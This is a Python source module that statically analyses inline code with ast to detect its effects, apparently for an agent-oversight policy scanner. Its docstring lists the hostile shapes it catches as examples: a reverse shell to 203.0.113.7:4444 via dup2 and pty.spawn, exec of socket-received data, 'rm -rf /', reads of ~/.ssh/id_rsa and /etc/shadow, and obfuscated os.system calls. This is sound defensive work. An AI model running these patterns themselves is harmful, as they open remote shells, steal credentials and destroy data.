"""Inline Python read with the standard library's :mod:`ast`, with a little data flow, for
:func:`core.policy.code.scan_code` (which documents the effect kinds returned): the guards, the tree walk and
the effects of calls. The values of expressions come from :mod:`core.policy.code.pyeval` (the data flow) and
:mod:`core.policy.code.pyvalues` (the values); the call tables from :mod:`core.policy.code.calls`.

What the data flow resolves (shapes)::

    c = "/bin/sh"; os.system(c)                      names assigned literals (all candidates, in order)
    os.system("rm -rf " + d)                         concatenation; an unknown part is the unknown mark
    os.system(f"rm -rf {p}/x"), "%s" % x, "a".join(...), "hs/nib/"[::-1]
    import subprocess as sp; sp.run([...])            import aliases, ``from os import system as s``
    getattr(os, "sys" + "tem")("id"), __import__("os").system(…), importlib.import_module("os")
    vars(os)["system"], os.__dict__["system"], sys.modules["os"]
    exec("import os; os.system('reboot')")           a literal executed is read as Python again (bounded)
    subprocess.run(["rm", "-rf", "/"]), subprocess.Popen("…", shell=True)
    s = socket.socket(); s.connect(("203.0.113.7", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")
    exec(s.recv(1024)), os.system(c.recv(99).decode())        running what a socket received
    HTTPServer(("0.0.0.0", 8000), partial(SimpleHTTPRequestHandler, directory="/")).serve_forever()
    open(Path.home() / ".ssh" / "id_rsa").read(), Path("/etc/shadow").read_text()

Decoded data (``b64decode("…")``) is not decoded: it stays unknown, and :func:`core.policy.code.code_runs_data`
calls running it HIGH, as tiers.md has it for ``base64 -d | sh``.

Guards: a text is parsed only when it is at most :data:`MAX_TEXT` characters, its estimated token count fits
the budget (:data:`MAX_TOKENS`, shared by the texts ``exec`` reads) and its brackets nest at most
:data:`MAX_NEST` deep; :class:`SyntaxError`, :class:`RecursionError`, :class:`MemoryError` and
:class:`ValueError` (NUL bytes, lone surrogates) mean "not read" (None), and the caller falls back to the linear
scan. The tree walk is iterative and bounded (:data:`MAX_NODES`); values are bounded
(:data:`core.policy.code.pyvalues.MAX_STR`, :data:`~core.policy.code.pyvalues.MAX_CAND` candidates per name).

To read a new call: add its dotted name to :data:`core.policy.code.calls.PY_CALLS` with the "how" that reads it
(a new "how": a branch of :meth:`_Reader.call_effect`); a method of objects the reader does not know is read by
its last name with the generic table (:meth:`_Reader.generic`). Add a case to ``tests/core/policy/test_code.py``.
"""

from __future__ import annotations

import ast
import warnings

from core.policy._paths import UNKNOWN_MARK as MARK
from core.policy.code.calls import CODE_CALLS, PATH_METHODS, PY_CALLS
from core.policy.code.linear import scan_linear
from core.policy.code.pyeval import Evaluator
from core.policy.code.pyvalues import _RECV, _U, FD, MAX_CAND, Meth, Mod, PathV, Sock, _canon, _load

#: characters parsed at most in one text
MAX_TEXT = 16384
#: estimated tokens (words plus punctuation) parsed at most over one reading, texts given to ``exec`` included
#: (parsing costs a few microseconds a token: this keeps the worst text within a few milliseconds)
MAX_TOKENS = 1200
#: bracket nesting parsed at most
MAX_NEST = 100
#: ``exec`` of a literal inside ``exec`` of a literal … read at most this deep
MAX_EXEC_DEPTH = 3
#: tree nodes visited at most over one reading
MAX_NODES = 20000
#: effects returned at most
MAX_EFFECTS = 128

_PUNCT = "(),.;=[]{}:+-*/%<>|&~^@"
#: the file name texts are parsed under: the compiler's warnings about them (``"\d"``: invalid escape
#: sequence) are the agent's code's business, not the daemon's log's (one filter, for this name only)
FILENAME = "<signoff-inline-code>"
warnings.filterwarnings("ignore", module=FILENAME.replace("<", r"\<").replace(">", r"\>"))

#: names of the generic table (:data:`core.policy.code.calls.CODE_CALLS`) that, as methods of other objects,
#: are something else in Python (``f.write(…)`` of a file object, ``list.remove``, ``cursor.execute("SELECT …")``,
#: ``asyncio.run``): read only as methods of the owners below, or (code of unknown language) of unknown objects
_NOT_GENERIC = frozenset(("write", "delete", "remove", "open", "call", "run", "execute", "spawn", "rm", "unlink",
                          "rmdir", "exec"))
_NOT_GENERIC_ANY = frozenset(("write", "delete", "remove", "open"))
_GENERIC_OWNERS = frozenset(("File", "FileUtils", "fs", "Deno", "child_process", "cp", "IO", "Open3", "Kernel",
                             "os", "io", "fsPromises", "Bun", "shell", "sh"))
_WRITE_FLAGS = frozenset(("O_WRONLY", "O_RDWR", "O_CREAT", "O_APPEND", "O_TRUNC"))


#: the fields of each node type that may hold nodes worth visiting; nodes with nothing to read below them
_FIELDS: dict = {}
_LEAVES = frozenset((ast.Name, ast.Constant, ast.Pass, ast.Break, ast.Continue, ast.alias))


def read_python(code: str, lang: str | None = None) -> list | None:
    """The effects of ``code`` read as Python (see :mod:`core.policy.code`), or None when it is not read:
    too long, too many tokens, too nested, or it does not parse (the caller then scans it linearly).

    ``lang`` None (the language is not known, as for code actions): calls that look like another language's
    (``require("child_process").execSync("…")``) are read by their names too, and a literal given to
    ``exec``/``eval`` is also read as a shell command (Ruby's and Perl's ``exec`` run commands)."""
    r = _Reader(lang)
    try:
        if not r.read_text(code, 0):
            return None
        r.finish()
    except (RecursionError, MemoryError, ValueError, TypeError, OverflowError, AttributeError, IndexError,
            KeyError):
        return None  # (defensive: the reader is not supposed to raise on any tree)
    return r.out


def _cost(code: str) -> int:
    """Estimated tokens: whitespace-separated words plus punctuation characters."""
    return len(code.split()) + sum(map(code.count, _PUNCT))


def _too_nested(code: str) -> bool:
    if code.count("(") + code.count("[") + code.count("{") <= MAX_NEST:
        return False
    depth = 0
    for ch in code:
        if ch in "([{":
            depth += 1
            if depth > MAX_NEST:
                return True
        elif ch in ")]}":
            depth -= 1
    return False


def parse(code: str, budget: int = MAX_TOKENS) -> tuple[ast.Module | None, int]:
    """``(tree, cost)``: the module parsed, or None when refused or unparseable (cost: tokens estimated)."""
    if len(code) > MAX_TEXT:
        return None, 0
    cost = _cost(code)
    if cost > budget or _too_nested(code):
        return None, cost
    try:
        return ast.parse(code, FILENAME), cost
    except (SyntaxError, RecursionError, MemoryError, ValueError, OverflowError):
        return None, cost


class _Reader(Evaluator):
    def __init__(self, lang: str | None):
        super().__init__()
        self.lang = lang
        self.out: list = []
        self.tokens = MAX_TOKENS
        self.nodes = MAX_NODES
        self.chdirs: list[str] = []
        self.listens = False
        self.dup_unknown = False  # os.dup2(X.fileno(), 0) of an X not known to be a socket

    # ------------------------------------------------------------------ reading
    def read_text(self, code: str, depth: int) -> bool:
        tree, cost = parse(code, self.tokens)
        self.tokens -= cost
        if tree is None:
            return False
        self.walk(tree, depth)
        return True

    def add(self, kind: str, val) -> None:
        if len(self.out) < MAX_EFFECTS:
            self.out.append((kind, val))

    def finish(self) -> None:
        if self.dup_unknown and any(k in ("connect", "listen") for k, _ in self.out):
            self.add("stdio_socket", "os.dup2")
        if self.listens and self.chdirs:
            self.add("serve", self.chdirs[-1])

    def walk(self, tree: ast.AST, depth: int) -> None:
        """Pre-order, in source order; assignments bind names before later statements are read."""
        stack = [tree]
        AST = ast.AST
        while stack:
            node = stack.pop()
            self.nodes -= 1
            if self.nodes < 0:
                return
            t = type(node)
            if t is ast.Call:
                self.call(node, depth)
            elif t is ast.Assign:
                vals = self.ev(node.value)
                for tg in node.targets:
                    self.bind(tg, vals)
            elif t is ast.AnnAssign or t is ast.NamedExpr:
                if node.value is not None:
                    self.bind(node.target, self.ev(node.value))
            elif t is ast.AugAssign:
                self.bind(node.target, self.ev(ast.BinOp(_load(node.target), node.op, node.value)))
            elif t is ast.Import:
                for a in node.names:
                    if a.asname:
                        self.env[a.asname] = [Mod(_canon(a.name))]
                    else:
                        top = a.name.split(".")[0]
                        self.env[top] = [Mod(_canon(top))]
            elif t is ast.ImportFrom:
                if not node.level and node.module:
                    for a in node.names:
                        if a.name == "*":
                            self.star.append(node.module)
                        else:
                            self.env[a.asname or a.name] = [Mod(_canon(f"{node.module}.{a.name}"))]
            elif t is ast.For or t is ast.AsyncFor or t is ast.comprehension:
                self.bind(node.target, self.items(node.iter))
            elif t is ast.withitem:
                if node.optional_vars is not None:
                    self.bind(node.optional_vars, self.ev(node.context_expr))
            children = []
            fields = _FIELDS.get(t)
            if fields is None:
                fields = _FIELDS[t] = tuple(f for f in t._fields if f not in ("ctx", "op", "ops", "type_comment"))
            for f in fields:
                v = getattr(node, f, None)
                if type(v) is list:
                    for x in v:
                        if isinstance(x, AST) and type(x) not in _LEAVES:
                            children.append(x)
                elif isinstance(v, AST) and type(v) not in _LEAVES:
                    children.append(v)
            if t is ast.ListComp or t is ast.SetComp or t is ast.GeneratorExp or t is ast.DictComp:
                # the loops bind the names the element uses: read them first
                n = len(node.generators)
                children = children[-n:] + children[:-n]
            children.reverse()
            stack.extend(children)

    # ------------------------------------------------------------------ effects
    def call(self, node: ast.Call, depth: int) -> None:
        for f in self.ev(node.func)[:2]:
            self.call_effect(f, node, depth)

    def call_effect(self, f, node: ast.Call, depth: int) -> None:
        base = None
        if isinstance(f, Meth):
            b, name = f.base, f.name
            if isinstance(b, Sock):
                kind = PY_CALLS.get("socket." + name)
                dotted = "socket." + name
            elif isinstance(b, PathV):
                kind = PATH_METHODS.get(name)
                base = str(b)
                dotted = "pathlib.Path." + name
            elif b is _U:
                dotted = "?." + name  # a method of an object the reader does not know
                kind = None
            else:
                return  # methods of strings and of received data
        elif isinstance(f, Mod):
            dotted = self.resolve(f)
            kind = PY_CALLS.get(dotted)
        else:
            return
        args = node.args
        kw = {k.arg: k.value for k in node.keywords if k.arg}
        if kind is None:
            self.generic(dotted, node)
            return
        if base is not None:  # a Path method: the path is the value's
            if kind == "read":
                self.add("read", base)
            elif kind == "write":
                self.add("write", base)
            elif kind == "delete":
                self.add("delete", base)
            elif kind == "open":
                mode = self.first(args[0] if args else kw.get("mode"))
                self.add("write" if _writes(mode) else "read", base)
            elif kind == "move":
                self.add("delete", base)
                for p in self.strs(args[0] if args else kw.get("target")):
                    self.add("write", p)
            return
        a0 = args[0] if args else None
        if kind in ("cmd", "sp"):
            self.command(dotted, a0 if a0 is not None else kw.get("args") or kw.get("cmd"), kind == "sp")
            if kind == "sp":
                for k in ("stdin", "stdout", "stderr"):
                    if k in kw and self.is_sock(kw[k]):
                        self.add("stdio_socket", f"{_short(dotted)}({k}=socket)")
                        break
        elif kind == "argv_s":
            words = [self.first(a) for a in args[:32]]
            self.argv(dotted, words)
        elif kind in ("exec_l", "spawn_l", "exec_v", "spawn_v", "pty"):
            rest = list(args[1:] if kind in ("spawn_l", "spawn_v") else args)
            if not rest:
                return
            path = self.first(rest[0])
            if kind in ("exec_l", "spawn_l"):
                words = [path] + [self.first(a) for a in rest[2:33]]
                if kind == "exec_l" and dotted.endswith("e"):
                    words = words[:-1] if len(words) > 1 else words  # the environment, last
            elif kind == "pty":
                v = self.first(rest[0])
                words = list(v) if type(v) in (list, tuple) else [v]
            else:
                lst = self.first(rest[1]) if len(rest) > 1 else None
                words = [path] + (list(lst[1:]) if type(lst) in (list, tuple) else [])
            self.argv(dotted, words)
        elif kind in ("rmtree", "delete", "write", "read"):
            target = a0 if a0 is not None else kw.get("path")
            vals = self.strs(target)
            if not vals and kind == "rmtree" and target is not None:
                self.add("rmtree", None)
            for p in vals:
                self.add(kind, p)
        elif kind == "open":
            mode = self.first(args[1] if len(args) > 1 else kw.get("mode"))
            for p in self.strs(a0 if a0 is not None else kw.get("file")):
                self.add("write" if _writes(mode) else "read", p)
        elif kind == "os_open":
            flags = args[1] if len(args) > 1 else kw.get("flags")
            w = flags is not None and any(type(n) is ast.Attribute and n.attr in _WRITE_FLAGS or
                                          type(n) is ast.Name and n.id in _WRITE_FLAGS for n in ast.walk(flags))
            for p in self.strs(a0):
                self.add("write" if w else "read", p)
        elif kind in ("copy", "move", "write2"):
            src = self.strs(a0)
            dst = self.strs(args[1] if len(args) > 1 else kw.get("dst"))
            if kind == "copy":
                for p in src:
                    self.add("read", p)
            elif kind == "move":
                for p in src:
                    self.add("delete", p)
            for p in dst:
                self.add("write", p)
        elif kind == "pycode":
            self.pycode(a0, depth)
        elif kind in ("connect", "sendto"):
            a = args[1] if kind == "sendto" and len(args) > 1 else a0
            self.add("connect", self.address(a))
        elif kind == "http":
            u = args[1] if dotted.endswith(".request") and len(args) > 1 else a0  # request(method, url)
            self.add("connect", self.web(u if u is not None else kw.get("url"), args[1] if len(args) > 1 and not
                                         dotted.endswith(".request") else kw.get("port")))
        elif kind == "connect_hp":
            self.add("connect", self.host(a0 if a0 is not None else kw.get("host"),
                                          args[1] if len(args) > 1 else kw.get("port")))
        elif kind == "bind":
            self.listen(self.address(a0))
        elif kind == "listen":
            if not any(k == "listen" for k, _ in self.out):
                self.listen(self.host(kw.get("bind"), kw.get("port")) if kw else None)
            else:
                self.listens = True
        elif kind == "server":
            addr = self.address(a0) if a0 is not None and type(a0) is ast.Tuple else self.host(
                args[1] if len(args) > 1 and dotted.startswith("asyncio") else kw.get("host"),
                args[2] if len(args) > 2 and dotted.startswith("asyncio") else kw.get("port"))
            self.listen(addr)
            self.serves(node)
        elif kind == "dup2":
            fd = self.first(a0)
            if isinstance(fd, FD):
                if fd.sock:
                    self.add("stdio_socket", "os.dup2")
                else:
                    self.dup_unknown = True
            elif type(fd) is int and fd > 2:
                self.dup_unknown = True
        elif kind == "chdir":
            for p in self.strs(a0):
                self.chdirs.append(p)
        elif kind == "partial":
            self.serves(node)

    def generic(self, dotted: str, node: ast.Call) -> None:
        """A call the Python tables do not know: read by its last name with the generic table of
        :data:`core.policy.code.calls.CODE_CALLS` (``require("child_process").execSync("…")``,
        ``File.write("…")``)."""
        parts = dotted.rsplit(".", 1)
        name = parts[-1]
        owner = parts[0] if len(parts) == 2 else ""
        kind = CODE_CALLS.get(name)
        if kind is None:
            if name == "serve_forever":
                self.listen(None)
            elif name == "connect" and node.args:
                # an object not known to be a socket: a (host, port) pair, or (code of unknown language)
                # net.connect(4444, "h")
                v = self.first(node.args[0])
                if type(v) is tuple and len(v) == 2 and type(v[0]) is str and type(v[1]) is int:
                    self.add("connect", self.address(node.args[0]))
                elif self.lang is None and len(node.args) >= 2:
                    addr = self.host(node.args[0], node.args[1])
                    if addr and ":" in addr:
                        self.add("connect", addr)
            return
        if owner not in _GENERIC_OWNERS and (
                name in _NOT_GENERIC_ANY if self.lang is None else name in _NOT_GENERIC):
            return
        args = node.args
        if not args:
            return
        vals = [self.first(a) for a in args[:32]]
        first = vals[0]
        if kind == "cmd":
            if type(first) in (list, tuple):
                self.argv(dotted, list(first))
            elif len(vals) > 1 and all(type(v) is str for v in vals):
                self.argv(dotted, vals)
            else:
                self.command(dotted, args[0], False)
        elif kind == "prog_list":
            rest = vals[1] if len(vals) > 1 and type(vals[1]) in (list, tuple) else []
            self.argv(dotted, [first] + list(rest))
        elif kind == "path_argv":
            rest = []
            for v in vals[1:]:
                rest.extend(v if type(v) in (list, tuple) else [v])
            self.argv(dotted, [first] + rest[1:] if rest else [first])
        elif type(first) is str:
            if kind == "rm_opts":
                rec = any(k.arg == "recursive" and self.first(k.value) is True for k in node.keywords) or any(
                    type(a) is ast.Dict and any(type(k) is ast.Constant and k.value == "recursive"
                                                for k in a.keys) for a in args[1:])
                self.add("rmtree" if rec else "delete", first)
            elif kind in ("rmtree", "delete", "write"):
                self.add(kind, first)

    def command(self, dotted: str, node, shellish: bool) -> None:
        if node is None:
            return
        for v in self.ev(node)[:MAX_CAND]:
            if isinstance(v, bytes):
                v = v.decode("utf-8", "replace")
            if type(v) in (list, tuple):
                self.argv(dotted, list(v))
            elif isinstance(v, str) and not isinstance(v, Mod):
                if v.strip(MARK + " "):
                    self.add("shell", str(v))
                else:
                    self.add("run_dynamic", _short(dotted))
            elif v is _RECV:
                self.add("run_received", _short(dotted))
            else:
                self.add("run_dynamic", _short(dotted))

    def argv(self, dotted: str, words: list) -> None:
        if not words:
            return
        if any(w is _RECV for w in words):
            self.add("run_received", _short(dotted))
            return
        out = []
        for w in words[:32]:
            if isinstance(w, bytes):
                w = w.decode("utf-8", "replace")
            if isinstance(w, PathV | Mod):
                w = str(w) if isinstance(w, PathV) else MARK
            out.append(w if type(w) is str else (str(w) if type(w) in (int, float) else MARK))
        if not out[0] or out[0] == MARK:
            self.add("run_dynamic", _short(dotted))
            return
        self.add("argv", out)

    def pycode(self, node, depth: int) -> None:
        if node is None:
            return
        for v in self.ev(node)[:2]:
            if isinstance(v, bytes):
                v = v.decode("utf-8", "replace")
            if isinstance(v, str) and not isinstance(v, Mod) and MARK not in v:
                if depth < MAX_EXEC_DEPTH and self.read_text(v, depth + 1):
                    pass
                else:
                    for e in scan_linear(v, "python")[:MAX_EFFECTS]:
                        self.add(*e)
                if self.lang is None:
                    self.add("shell", str(v))  # Ruby's and Perl's exec run commands
            elif v is _RECV:
                self.add("run_received", "exec")
            else:
                self.add("run_dynamic", "exec")

    def address(self, node):
        """``(host, port)`` -> "host:port" (or the host, ":port", None)."""
        if node is None:
            return None
        v = self.first(node)
        if type(v) in (list, tuple) and v:
            host = v[0] if type(v[0]) is str else None
            port = v[1] if len(v) > 1 and type(v[1]) in (int, str) else None
            return _addr(host, port)
        if type(v) is str:
            return v or None
        return None

    def host(self, node, port_node):
        v = self.first(node) if node is not None else None
        port = self.first(port_node) if port_node is not None else None
        if type(v) in (list, tuple):
            return self.address(node)
        if type(v) is int and type(port) is str:  # net.connect(4444, "h")
            v, port = port, v
        if type(v) is str and "://" in v:
            v = v.split("://", 1)[1].split("/", 1)[0].rsplit("@", 1)[-1]
        return _addr(v if type(v) is str else None, port if type(port) in (int, str) else None)

    def web(self, node, port_node) -> str:
        """A web client's destination: "SCHEME://HOST[:PORT]" ("https://…" when the URL is not literal)."""
        v = self.first(node) if node is not None else None
        scheme = "https"
        if type(v) is str and "://" in v:
            scheme = v.split("://", 1)[0][:8] or "https"
        host = self.host(node, port_node) if node is not None else None
        return f"{scheme}://{host}" if host and host != MARK else f"{scheme}://…"

    def listen(self, addr) -> None:
        self.listens = True
        self.add("listen", addr)

    def serves(self, node: ast.Call) -> None:
        for k in node.keywords:
            if k.arg == "directory":
                for p in self.strs(k.value):
                    self.add("serve", p)


def _writes(mode) -> bool:
    return isinstance(mode, str) and len(mode) <= 4 and any(c in mode for c in "wax+")


def _addr(host, port) -> str | None:
    if isinstance(host, Mod):
        host = None
    if host is not None:
        host = str(host).replace(MARK, "…")[:80]
    if port is not None and not isinstance(port, Mod):
        port = str(port).replace(MARK, "…")[:8]
    else:
        port = None
    if host and port:
        return f"{host}:{port}"
    if host == "" and port:
        return f"0.0.0.0:{port}"  # bind(("", port)): every address
    if host:
        return host
    if port:
        return f"port {port}"
    return None


def _short(dotted: str) -> str:
    return dotted[-40:]
